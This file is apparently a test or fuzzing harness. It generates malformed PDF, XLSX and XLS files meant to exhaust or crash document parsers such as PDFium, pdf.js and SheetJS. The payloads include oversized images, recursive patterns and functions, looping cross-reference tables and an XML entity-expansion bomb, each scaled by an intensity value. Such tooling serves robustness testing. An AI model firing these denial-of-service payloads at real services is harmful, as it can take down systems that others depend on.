// Ways to make the engines behind the readers overrun, spin or keep something for the next document: PDFium, the decoders of pictures, pdf.js,
// SheetJS, the decryption of Office. Each takes how far to go, from 0 to 1.
import { deflateSync } from 'node:zlib';
import officeCrypto from 'officecrypto-tool';
import { CFB, utils, write } from 'xlsx';
import { xlsx } from './office.mjs';
import { pdf, scaled, stream } from './pdf.mjs';

const packed = (entries, data) => stream(`/Filter /FlateDecode ${entries}`, deflateSync(data));
const repeated = (count, make) => Array.from({ length: count }, (_, i) => make(i));

/** A page that paints one picture. */
const picture = (entries, data, content = '500 0 0 500 9 9 cm /I Do') =>
  pdf({
    page: '/XObject << /I 6 0 R >>',
    content,
    objects: [stream(`/Type /XObject /Subtype /Image ${entries}`, data)],
  });

/** A page that fills a rectangle with a shading. */
const shaded = (shading, ...objects) =>
  pdf({ page: '/Shading << /S 6 0 R >>', content: '/S sh', objects: [shading, ...objects] });

/** A page that fills rectangles in a colour space. */
const coloured = (space, ...objects) =>
  pdf({ page: '/ColorSpace << /C 6 0 R >>', content: '/C cs 0 0 9 9 re f', objects: [space, ...objects] });

const box = (type, ...content) => {
  const body = Buffer.concat(content);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
};
const u8 = (...values) => Buffer.from(values);
const u16 = (...values) => Buffer.concat(values.map((value) => u8(value >> 8, value & 255)));
const u32 = (...values) => Buffer.concat(values.map((value) => u16(value >>> 16, value & 0xffff)));

/** A JPEG 2000 file whose first marker says so much. */
const jpx = (width, height, components, tile = width) =>
  Buffer.concat([
    box('jP  ', u32(0x0d0a870a)),
    box('ftyp', Buffer.from('jp2 '), u32(0), Buffer.from('jp2 ')),
    box('jp2h', box('ihdr', u32(height, width), u16(components), u8(7, 7, 0, 0)), box('colr', u8(1, 0, 0), u32(16))),
    box(
      'jp2c',
      u16(0xff4f, 0xff51, 38 + 3 * components, 0),
      u32(width, height, 0, 0, tile, tile, 0, 0),
      u16(components),
      Buffer.concat(repeated(components, () => u8(7, 1, 1))),
      u16(0xff52, 12),
      u8(0, 0, 0, 1, 0, 5, 4, 4, 0, 1),
      u16(0xff5c, 4),
      u8(0x40, 0x40),
      u16(0xff90, 10, 0),
      u32(0),
      u8(0, 1),
      u16(0xff93),
      Buffer.alloc(2000, 0x5a),
      u16(0xffd9),
    ),
  ]);

/** A JPEG whose frame says so much, with as many scans of nothing. */
const jpeg = (width, height, scans) =>
  Buffer.concat([
    u16(0xffd8, 0xffdb, 67),
    Buffer.alloc(65, 1).fill(0, 0, 1),
    u16(0xffc2, 11),
    u8(8),
    u16(height, width),
    u8(1, 1, 0x11, 0),
    u16(0xffc4, 20),
    u8(0, 1, ...Array(15).fill(0), 0),
    ...repeated(scans, () => Buffer.concat([u16(0xffda, 8), u8(1, 1, 0, 0, 0, 0), Buffer.alloc(4, 0x55)])),
    u16(0xffd9),
  ]);

/** A chain of objects from 6 on, each naming the next. */
const chain = (count, link, end) => repeated(count + 1, (i) => (i === count ? end : link(i + 7)));

export const PDF_ENGINE_ATTACKS = {
  'colour-spaces-in-a-chain': (far) =>
    coloured(...chain(scaled(50, 20_000, far), (next) => `[/Pattern ${next} 0 R]`, '/DeviceRGB')),
  'colour-spaces-by-index': (far) =>
    coloured(...chain(scaled(50, 20_000, far), (next) => `[/Indexed ${next} 0 R 255 (x)]`, '/DeviceRGB')),
  'an-index-without-end': (far) => coloured(`[/Indexed /DeviceRGB ${scaled(255, 2_147_483_647, far)} <00ff00>]`),
  'inks-without-end': (far) =>
    coloured(
      `[/DeviceN [${repeated(scaled(32, 60_000, far), (i) => `/I${i}`).join(' ')}] /DeviceRGB 7 0 R]`,
      '<< /FunctionType 2 /Domain [0 1] /C0 [0 0 0] /C1 [1 1 1] /N 1 >>',
    ),
  'a-profile-that-lies': (far) =>
    coloured('[/ICCBased 7 0 R]', packed('/N 4 /Alternate /DeviceCMYK', Buffer.alloc(scaled(1000, 3e7, far), 0x41))),
  'masks-painted-again': (far) =>
    pdf({
      page: '/XObject << /I 6 0 R >>',
      content: packed(
        '',
        Buffer.from(
          repeated(scaled(20, 20_000, far), (i) => `q ${(i % 600) + 1} 0 0 1 0 ${i % 790} cm /I Do Q`).join(' '),
        ),
      ),
      objects: [
        packed(
          '/Type /XObject /Subtype /Image /Width 4000 /Height 4000 /ImageMask true /BitsPerComponent 1',
          Buffer.alloc(2_000_000),
        ),
      ],
    }),
  'soft-masks-in-soft-masks': (far) =>
    pdf({
      page: '/XObject << /I 6 0 R >>',
      content: '500 0 0 500 9 9 cm /I Do',
      objects: repeated(scaled(5, 5000, far), (i) =>
        packed(
          `/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /SMask ${i + 7} 0 R`,
          Buffer.alloc(81),
        ),
      ),
    }),
  'a-jpx-of-many-components': (far) =>
    picture('/Width 64 /Height 64 /Filter /JPXDecode', jpx(64, 64, scaled(5, 16_000, far))),
  'a-jpx-of-any-size': (far) => {
    const side = scaled(100, 2_000_000_000, far);
    return picture('/Width 64 /Height 64 /Filter /JPXDecode', jpx(side, side, 3));
  },
  'a-jpx-of-many-tiles': (far) =>
    picture('/Width 64 /Height 64 /Filter /JPXDecode', jpx(scaled(64, 60_000, far), 64, 3, 1)),
  'a-jpeg-of-any-size': (far) => {
    const side = scaled(64, 65_500, far);
    return picture(
      `/Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode`,
      jpeg(side, side, 1),
    );
  },
  'a-jpeg-of-many-scans': (far) =>
    picture(
      '/Width 4000 /Height 4000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode',
      jpeg(4000, 4000, scaled(2, 3000, far)),
    ),
  'a-fax-of-any-size': (far) => {
    const side = scaled(100, 2_000_000_000, far);
    return picture(
      `/Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns ${side} /Rows ${side} >>`,
      Buffer.alloc(999, 0x9a),
    );
  },
  'a-jbig2-of-any-size': (far) => {
    const side = scaled(100, 2_000_000_000, far);
    const page = Buffer.concat([u32(0), u8(0x30, 0, 1), u32(19, side, side, 0, 0), u8(0), u16(0)]);
    const region = Buffer.concat([
      u32(1),
      u8(38, 0, 1),
      u32(30, side, side, 0, 0),
      u8(0, 0, 3, 255, 253, 255, 2, 254, 254, 254),
      Buffer.alloc(3),
    ]);
    return picture(
      `/Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode`,
      Buffer.concat([page, region]),
    );
  },
  'a-picture-of-any-size': (far) => {
    const side = scaled(100, 2_000_000_000, far);
    return picture(`/Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 16`, Buffer.alloc(99));
  },
  'pictures-in-the-line': (far) =>
    pdf({ content: 'BI /W 9 /H 9 /CS /G /BPC 8 ID aaaaaaaaa EI '.repeat(scaled(50, 300_000, far)) }),
  'a-picture-in-the-line-without-end': (far) =>
    pdf({ content: `BI /W ${scaled(9, 2e9, far)} /H 9 /CS /G /BPC 8 ID ${'a'.repeat(scaled(100, 1e6, far))}` }),
  'functions-in-functions': (far) =>
    shaded(
      '<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 600 0] /Function 7 0 R >>',
      ...repeated(
        scaled(5, 20_000, far),
        (i) =>
          `<< /FunctionType 3 /Domain [0 1] /Functions [${i + 8} 0 R ${i + 8} 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>`,
      ),
      '<< /FunctionType 2 /Domain [0 1] /C0 [0] /C1 [1] /N 1 >>',
    ),
  'a-function-of-many-inputs': (far) => {
    const inputs = scaled(2, 64, far);
    return coloured(
      `[/DeviceN [${repeated(inputs, (i) => `/I${i}`).join(' ')}] /DeviceGray 7 0 R]`,
      stream(
        `/FunctionType 0 /Domain [${'0 1 '.repeat(inputs)}] /Range [0 1] /Size [${'255 '.repeat(inputs)}] /BitsPerSample 8`,
        Buffer.alloc(1000),
      ),
    );
  },
  'a-program-in-braces': (far) =>
    shaded(
      '<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 600 0] /Function 7 0 R >>',
      stream('/FunctionType 4 /Domain [0 1] /Range [0 1]', Buffer.from('{'.repeat(scaled(50, 1_000_000, far)))),
    ),
  'a-program-without-end': (far) =>
    shaded(
      '<< /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 600 0 700] /Function 7 0 R >>',
      stream(
        '/FunctionType 4 /Domain [0 600 0 700] /Range [0 1]',
        Buffer.from(`{ ${'dup exp sin '.repeat(scaled(20, 300_000, far))} pop }`),
      ),
    ),
  'a-mesh-without-end': (far) =>
    shaded(
      packed(
        '/ShadingType 7 /ColorSpace /DeviceGray /BitsPerCoordinate 8 /BitsPerComponent 8 /BitsPerFlag 8 /Decode [0 600 0 700 0 1]',
        Buffer.alloc(scaled(1000, 2e7, far)),
      ),
    ),
  'a-lattice-of-no-width': (far) =>
    shaded(
      packed(
        `/ShadingType 5 /ColorSpace /DeviceGray /BitsPerCoordinate 8 /BitsPerComponent 8 /VerticesPerRow ${scaled(2, 2_147_483_647, far)} /Decode [0 600 0 700 0 1]`,
        Buffer.alloc(30_000),
      ),
    ),
  'tiles-of-no-size': (far) => {
    const step = 9 / scaled(9, 90_000, far);
    return pdf({
      page: '/Pattern << /P 6 0 R >>',
      content: '/Pattern cs /P scn 0 0 612 792 re f',
      objects: [
        stream(
          `/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep ${step} /YStep ${step} /Resources << >>`,
          Buffer.from('0 0 5 5 re f'),
        ),
      ],
    });
  },
  'patterns-in-patterns': (far) =>
    pdf({
      page: '/Pattern << /P 6 0 R >>',
      content: '/Pattern cs /P scn 0 0 612 792 re f',
      objects: repeated(scaled(2, 300, far), (i) =>
        stream(
          `/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 99 99] /XStep 9 /YStep 9 /Resources << /Pattern << /P ${i + 7} 0 R >> >>`,
          Buffer.from('/Pattern cs /P scn 0 0 99 99 re f'),
        ),
      ),
    }),
  'groups-in-groups': (far) =>
    pdf({
      page: '/XObject << /X 6 0 R >>',
      content: '/X Do',
      objects: repeated(scaled(3, 2000, far), (i) =>
        stream(
          `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Group << /S /Transparency /I true >> /Resources << /XObject << /X ${i + 7} 0 R >> >>`,
          Buffer.from('/X Do'),
        ),
      ),
    }),
  'a-letter-that-paints-itself': (far) =>
    pdf({
      font: `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [0.1 0 0 0.1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>`,
      objects: [stream('', Buffer.from(`9 0 d0 ${'BT /F 1 Tf (aa) Tj ET '.repeat(scaled(1, 2000, far))}`))],
    }),
  'dashes-of-no-length': (far) => pdf({ content: `[${9 / scaled(9, 9e6, far)}] 0 d 0 0 m 612 792 l S `.repeat(20) }),
  'lines-of-any-width': (far) =>
    pdf({ content: `1e${scaled(2, 300, far)} w 0 0 m 9 9 l 9 0 l s 1 J 1 j 0 0 m 0 0 l S` }),
  'curves-without-end': (far) =>
    pdf({ content: `0 0 m ${'1e6 0 0 1e6 300 300 c '.repeat(scaled(50, 300_000, far))} f* S` }),
  'clips-in-clips': (far) => pdf({ content: '0 0 m 600 0 l 300 700 l h W n '.repeat(scaled(50, 200_000, far)) }),
  'letters-that-clip': (far) =>
    pdf({
      content: `BT /F 90 Tf 7 Tr 9 300 Td ${'(abcdefgh) Tj '.repeat(scaled(20, 50_000, far))} ET 0 0 600 700 re f`,
    }),
  'notes-that-show-themselves': (far) =>
    pdf({
      page: '>> /Annots [6 0 R] /Y << ',
      objects: [
        '<< /Type /Annot /Subtype /Stamp /Rect [0 0 99 99] /F 4 /AP << /N 7 0 R >> >>',
        stream(
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 7 0 R >> >>',
          Buffer.from('/X Do '.repeat(scaled(2, 3000, far))),
        ),
      ],
    }),
  'fields-in-circles': (far) =>
    pdf({
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      objects: [`<< /T (a) /FT /Tx /V (b) /Kids [${'6 0 R '.repeat(scaled(1, 2000, far))}] >>`],
    }),
  'layers-that-ask-each-other': (far) =>
    pdf({
      catalog: '/OCProperties << /OCGs [6 0 R] /D << /Order [6 0 R] >> >>',
      page: '/Properties << /L 7 0 R >>',
      content: '/OC /L BDC BT /F 10 Tf 9 700 Td (a) Tj ET EMC',
      objects: [
        '<< /Type /OCG /Name (a) >>',
        `<< /Type /OCMD /VE ${'[/Not '.repeat(scaled(5, 50_000, far))} 6 0 R ${']'.repeat(scaled(5, 50_000, far))} >>`,
      ],
    }),
  'marks-never-ended': (far) => pdf({ content: '/P << /MCID 0 >> BDC '.repeat(scaled(100, 500_000, far)) }),
  'zeros-that-swell': (far) =>
    pdf({ content: stream('/Filter /ASCII85Decode', Buffer.alloc(scaled(1e4, 3e7, far), 'z')) }),
  'a-page-of-any-size': (far) => {
    const side = scaled(1000, 2_000_000_000, far);
    return pdf({ page: `>> /MediaBox [0 0 ${side} ${side}] /UserUnit ${scaled(1, 1e6, far)} /Y << ` });
  },
  'tables-of-places-in-circles': (far) => {
    const whole = pdf({});
    const at = Number(/startxref\n(\d+)/.exec(whole.toString('latin1'))[1]);
    const more = Buffer.from(`trailer << /Size 6 /Root 1 0 R /Prev ${at} >>\nstartxref\n${at}\n%%EOF\n`);
    return Buffer.concat([whole, Buffer.from('\n'), ...repeated(scaled(1, 50_000, far), () => more)]);
  },
  'a-lock-of-any-strength': (far) => {
    const whole = pdf({}).toString('latin1');
    const lock = `/Encrypt << /Filter /Standard /V 5 /R 6 /Length ${scaled(40, 2e9, far)} /P -1 /O <${'41'.repeat(48)}> /U <${'41'.repeat(48)}> /OE <${'41'.repeat(32)}> /UE <${'41'.repeat(32)}> /Perms <${'41'.repeat(16)}> /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF >> /ID [<41> <41>]`;
    return Buffer.from(whole.replace('/Root 1 0 R', `/Root 1 0 R ${lock}`), 'latin1');
  },
};

/** An encrypted workbook whose description of how it is encrypted is changed. */
function locked(change) {
  const bytes = officeCrypto.encrypt(xlsx({}), { password: 'VelvetSweatshop' });
  const container = CFB.read(bytes, { type: 'buffer' });
  const info = CFB.find(container, '/EncryptionInfo');
  const content = CFB.find(container, '/EncryptedPackage');
  const changed = change(Buffer.from(info.content).toString('latin1'), content);
  info.content = Buffer.from(changed, 'latin1');
  info.size = info.content.length;
  return CFB.write(container, { type: 'buffer' });
}
const attribute = (name, make) => (far) =>
  locked((xml) => xml.replaceAll(new RegExp(`${name}="[^"]*"`, 'g'), `${name}${make(far)}`));

export const XLSX_ENGINE_ATTACKS = {
  'rounds-in-single-quotes': attribute('spinCount', (far) => `='${scaled(1e6 + 1, 2e9, far)}'`),
  'rounds-by-exponent': attribute('spinCount', (far) => `="9e${scaled(6, 300, far)}"`),
  'rounds-that-are-no-number': attribute('spinCount', () => '="all"'),
  'rounds-below-nothing': attribute('spinCount', (far) => `="-${scaled(1, 2e9, far)}"`),
  'blocks-of-any-size': attribute('blockSize', (far) => `="${scaled(17, 4e9, far)}"`),
  'keys-of-any-size': attribute('keyBits', (far) => `="${scaled(257, 4e9, far)}"`),
  'a-hash-that-is-none': attribute('hashAlgorithm', (far) => `="${'SHA'.repeat(scaled(1, 3000, far))}"`),
  'a-salt-without-end': attribute('saltValue', (far) => `="${'A'.repeat(scaled(64, 30_000, far))}"`),
  'descriptions-in-descriptions': (far) => locked((xml) => xml.slice(0, 8) + '<a>'.repeat(scaled(50, 15_000, far))),
  'descriptions-that-laugh': (far) =>
    locked(
      (xml) =>
        `${xml.slice(0, 8)}<!DOCTYPE x [${repeated(scaled(3, 12, far), (i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]>${xml.slice(8)}`,
    ),
  'a-length-that-lies': (far) =>
    locked((xml, content) => {
      Buffer.from(content.content.buffer, content.content.byteOffset, 8).writeUInt32LE(scaled(1e5, 4_294_967_295, far));
      return xml;
    }),
};

/** A workbook of the old format with one format of its own. Made before anything is read: the library that writes it is one of those attacked. */
const OLD_BOOK = oldBookWith('0.000');
const FORMAT_AT = OLD_BOOK.indexOf(Buffer.from('0.000', 'utf16le')) - 9;

function oldBookWith(format) {
  const sheet = utils.aoa_to_sheet([['a', 1]]);
  sheet.B1 = { t: 'n', v: 45_000, z: format };
  const book = utils.book_new();
  utils.book_append_sheet(book, sheet, 'S');
  return Buffer.from(write(book, { type: 'buffer', bookType: 'biff8' }));
}

/** With one of its records changed. */
function oldBook(change) {
  const bytes = Buffer.from(OLD_BOOK);
  change(bytes, FORMAT_AT);
  return bytes;
}

export const XLS_ENGINE_ATTACKS = {
  'formats-of-any-number': (far) => oldBook((bytes, at) => bytes.writeUInt16LE(scaled(164, 65_535, far), at + 4)),
  'formats-that-are-built-in': (far) => oldBook((bytes, at) => bytes.writeUInt16LE(scaled(1, 49, far), at + 4)),
  'formats-without-end': (far) => oldBook((bytes, at) => bytes.writeUInt16LE(scaled(6, 65_535, far), at + 6)),
  'a-code-page-that-is-none': (far) =>
    oldBook((bytes) => {
      const at = bytes.indexOf(Buffer.from('42000200', 'hex'));
      if (at > 0) bytes.writeUInt16LE(scaled(1, 65_535, far), at + 4);
    }),
};
